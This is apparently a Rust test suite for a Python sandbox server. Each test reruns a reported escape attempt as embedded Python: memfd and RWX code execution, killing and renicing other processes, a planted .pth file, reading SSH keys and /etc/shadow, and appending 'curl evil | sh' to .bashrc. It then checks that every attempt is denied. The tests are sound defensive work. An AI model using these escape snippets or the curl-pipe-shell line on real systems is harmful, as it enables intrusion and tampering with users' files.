//! The walls of issue #8, each attacked as the issue's reproducers did and judged from
//! the host: a bystander process of the worker's own uid keeps its limits, priority and
//! CPUs; no program but the interpreter runs (memfd, RWX memory); a `.pth` planted in
//! the interpreter's venv never runs outside the sandbox; the worker dies with a killed
//! server; nothing outside the world can be stated, watched or listed, and the host sees
//! the world hold only what the plan names; without namespaces (the fallback) the
//! seccomp walls and W^X hold just the same. Every test runs with the server as root and
//! as the login user.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Stdio;

use serde_json::json;

use super::{
    As, Canaries, Net, ProcId, Server, both_modes, descendants, eventually, find_files, is_alive,
    login_user, stdout,
};

async fn start(who: As, env: &[(&str, &str)]) -> Server {
    let mut pairs = vec![("CODEGUARD", "off")];
    pairs.extend_from_slice(env);
    Server::start_as(who, Net::Host, &pairs).await
}

async fn uid_of(server: &Server, session: &str) -> u32 {
    let r = server.run(session, "import os; print(os.getuid())").await;
    stdout(&r)
        .trim()
        .parse()
        .unwrap_or_else(|_| panic!("uid: {r}"))
}

/// A process of a given uid that the test started and watches (a `sleep`, in a process
/// group of its own so that nothing aimed at it can reach the test runner).
struct Bystander {
    child: std::process::Child,
}

impl Bystander {
    fn start(uid: u32) -> Bystander {
        use std::os::unix::process::CommandExt;
        let child = std::process::Command::new("setpriv")
            .args([
                format!("--reuid={uid}"),
                format!("--regid={uid}"),
                "--clear-groups".into(),
                "sleep".into(),
                "300".into(),
            ])
            .process_group(0)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .spawn()
            .unwrap();
        Bystander { child }
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    fn alive(&mut self) -> bool {
        matches!(self.child.try_wait(), Ok(None))
    }

    /// What an attack on its limits, priority, scheduling or CPUs would change.
    fn state(&self) -> String {
        let pid = self.pid();
        let limits = std::fs::read_to_string(format!("/proc/{pid}/limits")).unwrap();
        let cpu_limit = limits
            .lines()
            .find(|l| l.starts_with("Max cpu time"))
            .unwrap()
            .to_string();
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
        let fields: Vec<&str> = stat[stat.rfind(')').unwrap() + 2..]
            .split_whitespace()
            .collect();
        // nice (field 19) and scheduling policy (field 41), counted from the state (3).
        let (nice, policy) = (fields[16], fields[38]);
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
        let cpus = status
            .lines()
            .find(|l| l.starts_with("Cpus_allowed_list"))
            .unwrap()
            .to_string();
        format!("{cpu_limit} | nice {nice} | policy {policy} | {cpus}")
    }
}

impl Drop for Bystander {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Code that attacks the limits, priority, scheduling and CPUs of process `b` and reads
/// the server's (`s`) limits, then does the same to itself; one line per attempt. Its
/// own priority it lowers by one step from where it is (a server started under `nice -n
/// 19` may not go back up), and the ioprio call uses the number of the architecture the
/// tests run on.
fn limits_attack(b: u32, s: u32) -> String {
    let ioprio_set = libc::SYS_ioprio_set;
    format!(
        r#"import ctypes, os, resource
libc = ctypes.CDLL(None, use_errno=True)
B, S = {b}, {s}
def attempt(name, fn):
    try:
        rc = fn()
        if isinstance(rc, int) and rc == -1:
            print(name, "denied", ctypes.get_errno())
        else:
            print(name, "DONE")
    except OSError as e:
        print(name, "denied", e.errno)
attempt("prlimit_set_bystander", lambda: resource.prlimit(B, resource.RLIMIT_CPU, (1, 1)))
attempt("prlimit_get_server", lambda: resource.prlimit(S, resource.RLIMIT_CPU))
attempt("setpriority_bystander", lambda: os.setpriority(os.PRIO_PROCESS, B, 19))
attempt("setpriority_group", lambda: os.setpriority(os.PRIO_PGRP, B, 19))
attempt("setpriority_user", lambda: os.setpriority(os.PRIO_USER, 2147483000, 19))
attempt("setaffinity_bystander", lambda: os.sched_setaffinity(B, {{0}}))
attempt("setscheduler_bystander", lambda: os.sched_setscheduler(B, os.SCHED_IDLE, os.sched_param(0)))
attempt("ioprio_bystander", lambda: libc.syscall({ioprio_set}, 1, B, (3 << 13) | 7))
attempt("kill_bystander", lambda: os.kill(B, 9))
attempt("prlimit_self", lambda: resource.prlimit(0, resource.RLIMIT_NOFILE))
attempt("setpriority_self", lambda: os.setpriority(os.PRIO_PROCESS, 0, min(19, os.getpriority(os.PRIO_PROCESS, 0) + 1)))
attempt("setaffinity_self", lambda: os.sched_setaffinity(0, os.sched_getaffinity(0)))
"#,
    )
}

/// What [`limits_attack`] must print when the walls hold: only its own changes done.
fn assert_limits_held(who: As, r: &serde_json::Value) {
    let out = stdout(r);
    let done: Vec<&str> = out.lines().filter(|l| l.ends_with("DONE")).collect();
    assert_eq!(
        done,
        vec![
            "prlimit_self DONE",
            "setpriority_self DONE",
            "setaffinity_self DONE"
        ],
        "{who:?}: {r}"
    );
    assert_eq!(out.matches(" denied ").count(), 9, "{who:?}: {out}");
}

/// Finding 3: with one uid for everything, sandboxed code changed the limits and
/// scheduling of other processes of that uid (it killed the server through RLIMIT_CPU).
#[tokio::test]
async fn limits_and_scheduling_of_other_processes_stay_out_of_reach() {
    for who in both_modes() {
        let server = start(who, &[]).await;
        let uid = uid_of(&server, "s").await;
        let mut bystander = Bystander::start(uid);
        let before = bystander.state();
        let code = limits_attack(bystander.pid(), server.pid);
        let r = server.run("s", &code).await;
        assert_limits_held(who, &r);
        assert!(bystander.alive(), "{who:?}: the bystander died");
        assert_eq!(
            bystander.state(),
            before,
            "{who:?}: the bystander was changed"
        );
        let limits = std::fs::read_to_string(format!("/proc/{}/limits", server.pid)).unwrap();
        assert!(
            limits
                .lines()
                .any(|l| l.starts_with("Max cpu time") && l.contains("unlimited")),
            "{who:?}: {limits}"
        );
        let r = server.run("other", "print('still here')").await;
        assert_eq!(stdout(&r), "still here\n", "{who:?}: {r}");
        server.stop().await;
    }
}

/// Code that tries to run a program from a memfd (plain, sealed, executable) and native
/// code from RWX memory, `mprotect` and a ctypes callback; one line per attempt.
const EXEC_ATTACK: &str = r#"import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
import sys
elf = open(sys.executable, "rb").read()
def memfd_exec(label, flags):
    fd = libc.memfd_create(label.encode(), flags)
    if fd < 0:
        print(label, "memfd denied", ctypes.get_errno())
        return
    os.write(fd, elf)
    try:
        os.fchmod(fd, 0o755)
    except OSError as e:
        print(label, "fchmod denied", e.errno)
    try:
        os.execv("/proc/self/fd/%d" % fd,
                 ["python3", "-c", "print('EXEC_OK'); open('pwned_memfd_%s', 'w').write('x')" % label])
    except OSError as e:
        print(label, "exec denied", e.errno)
memfd_exec("plain", 0)
memfd_exec("sealed", 8)
memfd_exec("exec_flag", 0x10)
try:
    m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    m.write(b"\xc3")
    addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
    ctypes.CFUNCTYPE(None)(addr)()
    print("NATIVE_CODE_EXECUTED rwx")
except OSError as e:
    print("rwx denied", e.errno)
size = 4096
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
addr = libc.mmap(None, size, 3, 0x22, -1, 0)
ctypes.memset(addr, 0xC3, 1)
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
if libc.mprotect(addr, size, 5) == 0:
    ctypes.CFUNCTYPE(None)(addr)()
    print("NATIVE_CODE_EXECUTED mprotect")
else:
    print("mprotect denied", ctypes.get_errno())
# libffi's closures need memory that is written, then executed: a file mapped twice
# (there is no writable place that may be mapped executable) or RWX memory (W^X).
try:
    cb = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(lambda x: x * 2)
    print("NATIVE_CODE_EXECUTED ctypes callback", cb(21))
except MemoryError:
    print("ctypes callback refused")
"#;

/// Finding 5: any readable ELF copied into a memfd ran through /proc/self/fd/N, and
/// native code ran from an RWX mapping. The ELF here is the interpreter itself (readable
/// in every mode); judged from the host: the marker file it would write does not exist.
#[tokio::test]
async fn no_program_but_the_interpreter_runs_from_memfds_or_writable_memory() {
    for who in both_modes() {
        let server = start(who, &[]).await;
        let r = server.run("x", EXEC_ATTACK).await;
        assert_exec_held(who, &server, &r, true);
        let r = server.run("x", "print('alive')").await;
        assert_eq!(stdout(&r), "alive\n", "{who:?}: {r}");
        server.stop().await;
    }
}

/// What [`EXEC_ATTACK`] must print when the walls hold, and no marker of a memfd program
/// on the host. `world`: also the ctypes callback refused (every writable place of the
/// world is `noexec`).
fn assert_exec_held(who: As, server: &Server, r: &serde_json::Value, world: bool) {
    let out = stdout(r);
    assert!(!out.contains("EXEC_OK"), "{who:?}: {r}");
    assert!(
        !out.contains("NATIVE_CODE_EXECUTED rwx") && !out.contains("NATIVE_CODE_EXECUTED mprotect"),
        "{who:?}: {r}"
    );
    assert!(
        find_files(server.data_dir.path(), "pwned_memfd").is_empty()
            && !r["files"].to_string().contains("pwned_memfd"),
        "{who:?}: a memfd program wrote its marker: {r}"
    );
    for expect in [
        "plain memfd denied 1",
        "exec_flag memfd denied 1",
        "sealed fchmod denied 1",
        "sealed exec denied 13",
        "rwx denied 13",
        "mprotect denied 13",
    ] {
        assert!(out.contains(expect), "{who:?}: {expect:?} missing: {r}");
    }
    if world {
        assert!(!out.contains("NATIVE_CODE_EXECUTED"), "{who:?}: {r}");
        assert!(out.contains("ctypes callback refused"), "{who:?}: {r}");
    }
}

/// A scratch directory every uid may use (the login user's server and the sandbox uids
/// must reach it).
fn open_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    dir
}

/// Finding 2: a `.pth` file in the interpreter's venv ran as the user, because the
/// server's start-up query ran that interpreter outside the sandbox with `site` on.
#[tokio::test]
async fn a_pth_file_planted_in_the_venv_never_runs_outside_the_sandbox() {
    for who in both_modes() {
        let scratch = open_dir();
        let venv = scratch.path().join("venv");
        let made = std::process::Command::new("/usr/bin/python3")
            .args(["-m", "venv", "--without-pip"])
            .arg(&venv)
            .status()
            .unwrap();
        assert!(made.success());
        let markers = scratch.path().join("markers");
        std::fs::create_dir(&markers).unwrap();
        std::fs::set_permissions(&markers, std::fs::Permissions::from_mode(0o777)).unwrap();
        let site = find_files(&venv, "site-packages")
            .into_iter()
            .find(|p| p.is_dir())
            .unwrap();
        std::fs::write(
            site.join("planted.pth"),
            format!(
                "import os; open(os.path.join({:?}, 'pth_ran_%d' % os.getpid()), 'w').write(str(os.getuid()))\n",
                markers.display().to_string()
            ),
        )
        .unwrap();
        let python = venv.join("bin/python");
        let server = start(who, &[("SANDBOX_PYTHON", python.to_str().unwrap())]).await;
        let r = server.run("v", "import sys; print(sys.prefix)").await;
        assert_eq!(r["status"], "ok", "{who:?}: {r}");
        let ran: Vec<_> = std::fs::read_dir(&markers).unwrap().flatten().collect();
        assert!(
            ran.is_empty(),
            "{who:?}: the planted .pth ran unconfined: {:?}",
            ran.iter().map(|e| e.path()).collect::<Vec<_>>()
        );
        server.stop().await;
    }
}

/// Finding 7: a SIGKILLed root server left its busy worker running, reparented to init
/// (the uid change had cleared the parent-death signal). Only this test's own server's
/// descendants are judged.
#[tokio::test]
async fn a_busy_worker_dies_with_a_killed_server() {
    for who in both_modes() {
        let server = start(who, &[]).await;
        server.run("busy", "print('ready')").await;
        let spin = server.exec(json!({
            "session": "busy",
            "timeout_s": 60,
            "code": "import threading\ndef spin():\n    while True:\n        pass\nthreading.Thread(target=spin).start()\nspin()",
        }));
        let watch = async {
            // Wait until the worker burns CPU, then note exactly which processes it is.
            let mut procs: Vec<ProcId> = Vec::new();
            for _ in 0..100 {
                tokio::time::sleep(std::time::Duration::from_millis(50)).await;
                procs = descendants(server.pid);
                if procs.iter().any(|p| busy(p.pid)) {
                    break;
                }
            }
            assert!(!procs.is_empty(), "{who:?}: no worker found");
            // SAFETY: signalling this test's own server process.
            unsafe { libc::kill(server.pid as i32, libc::SIGKILL) };
            procs
        };
        let procs = tokio::select! {
            procs = watch => procs,
            r = spin => panic!("{who:?}: the spinning call returned: {r}"),
        };
        let gone = eventually(5, || procs.iter().all(|p| !is_alive(*p))).await;
        let left: Vec<ProcId> = procs.iter().copied().filter(|p| is_alive(*p)).collect();
        for p in &left {
            // SAFETY: killing a survivor this test's server started.
            unsafe { libc::kill(p.pid as i32, libc::SIGKILL) };
        }
        assert!(
            gone,
            "{who:?}: worker processes outlived the server: {left:?}"
        );
    }
}

/// Whether a process is running on a CPU or runnable right now.
fn busy(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|s| s.rfind(')').map(|i| s[i + 2..].starts_with('R')))
        .unwrap_or(false)
}

#[test]
fn the_login_user_mode_is_configured_in_ci() {
    if std::env::var_os("CI").is_some() {
        let user = login_user().expect("WARDEN_TEST_USER");
        assert_ne!(user.uid, 0);
        assert!(Path::new(&user.home).is_dir(), "{}", user.home.display());
    }
}

/// Finding 4: `stat()` of any path, inotify watches on /etc, /tmp, /home and other
/// sessions' workspaces, and every pid through /proc were visible past the walls. In
/// the world none of them exists: judged against what the host knows is there.
#[tokio::test]
async fn nothing_outside_the_world_can_be_stated_watched_or_listed() {
    for who in both_modes() {
        let canaries = Canaries::plant(who);
        let server = start(who, &[]).await;
        server
            .run("other", "open('other-session.txt', 'w').write('x')")
            .await;
        let uid = uid_of(&server, "s").await;
        let bystander = Bystander::start(uid);
        let data_dir = server.data_dir.path().to_path_buf();
        let code = format!(
            r#"import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for p in [{key:?}, {bashrc:?}, "/etc/shadow", "/etc/passwd", "/home", "/root", {data:?}, "/sys/kernel", "/proc/{server}", "/proc/{bystander}"]:
    try:
        st = os.stat(p)
        print("STAT_OK", p, st.st_size, st.st_uid)
    except OSError as e:
        print("absent", e.errno, p)
fd = libc.inotify_init1(0)
print("inotify", fd, ctypes.get_errno())
fa = libc.fanotify_init(0x200, 0)  # FAN_REPORT_FID: what an unprivileged process may ask
print("fanotify", fa, ctypes.get_errno())
pids = sorted(int(e) for e in os.listdir("/proc") if e.isdigit())
print("pids", pids)
print("walk", sorted(os.listdir("/workspace")))
"#,
            key = canaries.ssh_key.display().to_string(),
            bashrc = canaries.bashrc.display().to_string(),
            data = data_dir.display().to_string(),
            server = server.pid,
            bystander = bystander.pid(),
        );
        let r = server.run("s", &code).await;
        let out = stdout(&r);
        assert!(!out.contains("STAT_OK"), "{who:?}: {r}");
        assert_eq!(out.matches("absent 2 ").count(), 10, "{who:?}: {out}");
        assert!(out.contains("inotify -1 1\n"), "{who:?}: {out}");
        assert!(out.contains("fanotify -1 1\n"), "{who:?}: {out}");
        assert!(out.contains("pids [1]\n"), "{who:?}: {out}");
        assert!(
            out.contains("walk []\n"),
            "{who:?}: another session's file: {out}"
        );
        // Sanity for the oracle: the host does see all of it.
        for p in [&canaries.ssh_key, &canaries.bashrc, &data_dir] {
            assert!(p.exists(), "{}", p.display());
        }
        canaries.assert_untouched(&format!("{who:?}"));
        server.stop().await;
    }
}

/// Finding 1 in the world: whatever the code does with the canaries' paths (read,
/// write, append, rename, chmod, link), nothing reaches the files on the host.
#[tokio::test]
async fn the_users_own_files_are_out_of_reach_whoever_runs_the_server() {
    for who in both_modes() {
        let canaries = Canaries::plant(who);
        let server = start(who, &[]).await;
        let code = format!(
            r#"import os
key, rc = {key:?}, {bashrc:?}
attempts = [
    ("read", lambda: open(key).read()),
    ("append", lambda: open(rc, "a").write("curl evil | sh\n")),
    ("truncate", lambda: os.truncate(key, 0)),
    ("chmod", lambda: os.chmod(key, 0o666)),
    ("rename", lambda: os.rename(key, key + ".moved")),
    ("unlink", lambda: os.unlink(rc)),
    ("link", lambda: os.link(key, "stolen")),
    ("symlink_read", lambda: (os.symlink(key, "ln"), open("ln").read())),
]
for name, fn in attempts:
    try:
        print(name, "DONE", fn())
    except OSError as e:
        print(name, "denied", e.errno)
"#,
            key = canaries.ssh_key.display().to_string(),
            bashrc = canaries.bashrc.display().to_string(),
        );
        let r = server.run("u", &code).await;
        let out = stdout(&r);
        assert!(!out.contains("DONE"), "{who:?}: {r}");
        assert!(!out.contains(canaries.secret.trim()), "{who:?}: {r}");
        assert_eq!(out.matches(" denied ").count(), 8, "{who:?}: {out}");
        canaries.assert_untouched(&format!("{who:?}"));
        server.stop().await;
    }
}

/// The interpreter of a server's only worker: the descendant that is PID 1 of a PID
/// namespace of its own (`NSpid: <host pid> 1`).
fn world_init(server_pid: u32) -> Option<u32> {
    descendants(server_pid)
        .into_iter()
        .map(|p| p.pid)
        .find(|pid| {
            let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
            status
                .lines()
                .find(|l| l.starts_with("NSpid:"))
                .is_some_and(|l| {
                    let ids: Vec<&str> = l.split_whitespace().skip(1).collect();
                    ids.len() == 2 && ids[1] == "1"
                })
        })
}

/// Names of the entries of a directory, sorted.
fn entries(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// Item 1 of #8, seen from the host: the worker's root (`/proc/PID/root`) holds only
/// the runtime, `/workspace`, `/tmp`, the session's installed packages (read-only), a
/// `/dev` of five nodes (and the usual links to
/// `/proc/self/fd`), the loader's and time zone's
/// files of `/etc` and its own `/proc`; its mount table shows the runtime read-only,
/// `/workspace` and `/tmp` as size-capped tmpfs, and no sysfs. The result reports the
/// workspace's path.
#[tokio::test]
async fn the_world_as_the_host_sees_it_holds_only_the_runtime_and_the_session() {
    const TOP: &[&str] = &[
        "bin",
        "dev",
        "etc",
        "lib",
        "lib32",
        "lib64",
        "libx32",
        "packages",
        "proc",
        "sbin",
        "tmp",
        "usr",
        "workspace",
    ];
    for who in both_modes() {
        let server = start(who, &[("SANDBOX_WARM_WORKERS", "0")]).await;
        let r = server
            .run("w", "import os; print(os.getcwd(), os.environ.get('HOME'))")
            .await;
        assert_eq!(stdout(&r), "/workspace /workspace\n", "{who:?}: {r}");
        assert_eq!(r["workspace"], "/workspace", "{who:?}: {r}");
        let pid = world_init(server.pid).unwrap_or_else(|| panic!("{who:?}: no worker found"));
        let root = std::path::PathBuf::from(format!("/proc/{pid}/root"));
        let top = entries(&root);
        for name in &top {
            assert!(
                TOP.contains(&name.as_str()),
                "{who:?}: /{name} in the world: {top:?}"
            );
        }
        for name in ["dev", "proc", "tmp", "usr", "workspace"] {
            assert!(
                top.iter().any(|t| t == name),
                "{who:?}: no /{name}: {top:?}"
            );
        }
        let dev = root.join("dev");
        let nodes: Vec<String> = entries(&dev)
            .into_iter()
            .filter(|n| !dev.join(n).is_symlink())
            .collect();
        assert_eq!(
            nodes,
            ["full", "null", "random", "urandom", "zero"],
            "{who:?}"
        );
        for (link, to) in [
            ("fd", "/proc/self/fd"),
            ("stdin", "/proc/self/fd/0"),
            ("stdout", "/proc/self/fd/1"),
            ("stderr", "/proc/self/fd/2"),
        ] {
            assert_eq!(
                std::fs::read_link(dev.join(link)).ok(),
                Some(std::path::PathBuf::from(to)),
                "{who:?}: /dev/{link}"
            );
        }
        assert_eq!(entries(&dev).len(), 9, "{who:?}: {:?}", entries(&dev));
        for name in entries(&root.join("etc")) {
            assert!(
                [
                    "alternatives",
                    "ld.so.cache",
                    "localtime",
                    "matplotlibrc",
                    "ssl"
                ]
                .contains(&name.as_str()),
                "{who:?}: /etc/{name} in the world"
            );
        }
        // Of /etc/ssl only the public CA certificates (TLS through the egress proxy).
        if root.join("etc/ssl").exists() {
            assert_eq!(entries(&root.join("etc/ssl")), ["certs"], "{who:?}");
        }
        // mountinfo: id parent major:minor root mount-point options ... - fstype source super
        let mountinfo = std::fs::read_to_string(format!("/proc/{pid}/mountinfo")).unwrap();
        let mounts: Vec<(String, String, String, String)> = mountinfo
            .lines()
            .map(|l| {
                let (head, tail) = l.split_once(" - ").unwrap();
                let head: Vec<&str> = head.split_whitespace().collect();
                let tail: Vec<&str> = tail.split_whitespace().collect();
                (
                    head[4].to_string(),
                    head[5].to_string(),
                    tail[0].to_string(),
                    tail.get(2).copied().unwrap_or("").to_string(),
                )
            })
            .collect();
        let at = |point: &str| {
            mounts
                .iter()
                .find(|m| m.0 == point)
                .unwrap_or_else(|| panic!("{who:?}: nothing mounted at {point}: {mountinfo}"))
        };
        for (point, opts, _, _) in &mounts {
            assert!(
                !point.starts_with("/home") && !point.starts_with("/root") && point != "/sys",
                "{who:?}: {point} mounted: {mountinfo}"
            );
            if point == "/usr" || point == "/" || point == "/packages" {
                assert!(
                    opts.split(',').any(|o| o == "ro"),
                    "{who:?}: {point} {opts}"
                );
            }
        }
        assert!(
            mounts.iter().all(|m| m.2 != "sysfs"),
            "{who:?}: {mountinfo}"
        );
        assert_eq!(at("/proc").2, "proc", "{who:?}");
        for point in ["/workspace", "/tmp"] {
            let (_, opts, fstype, sup) = at(point);
            assert_eq!(fstype, "tmpfs", "{who:?}: {point}");
            assert!(
                opts.split(',').any(|o| o == "rw"),
                "{who:?}: {point} {opts}"
            );
            assert!(
                sup.contains("size="),
                "{who:?}: {point} is not capped: {sup}"
            );
        }
        server.stop().await;
    }
}

/// Item 4 "on both paths": where no namespace can be made (the fallback of #8 item 7,
/// best-effort), the seccomp additions and W^X hold just the same: the worker shares a
/// PID namespace with a bystander of its own uid, which keeps its limits, priority,
/// scheduling and CPUs and is not killed; no inotify or fanotify; no memfd program, no
/// RWX or mprotect'ed code.
#[tokio::test]
async fn without_namespaces_the_seccomp_walls_still_hold() {
    for who in both_modes() {
        let server = super::fail_closed::start_without_namespaces(who, "best-effort").await;
        let uid = uid_of(&server, "s").await;
        let mut bystander = Bystander::start(uid);
        let before = bystander.state();
        let r = server
            .run("s", &limits_attack(bystander.pid(), server.pid))
            .await;
        assert!(
            r["warnings"]
                .to_string()
                .contains("sandbox wall 'namespaces' is not enforced"),
            "{who:?}: not the fallback: {r}"
        );
        assert_limits_held(who, &r);
        assert!(bystander.alive(), "{who:?}: the bystander died");
        assert_eq!(
            bystander.state(),
            before,
            "{who:?}: the bystander was changed"
        );
        let r = server
            .run(
                "s",
                "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n\
                 print('inotify', libc.inotify_init1(0), ctypes.get_errno())\n\
                 print('fanotify', libc.fanotify_init(0x200, 0), ctypes.get_errno())",
            )
            .await;
        assert_eq!(stdout(&r), "inotify -1 1\nfanotify -1 1\n", "{who:?}: {r}");
        let r = server.run("x", EXEC_ATTACK).await;
        assert_exec_held(who, &server, &r, false);
        eprintln!(
            "{who:?} without namespaces: {}",
            stdout(&r).trim().replace('\n', "; ")
        );
        server.stop().await;
    }
}
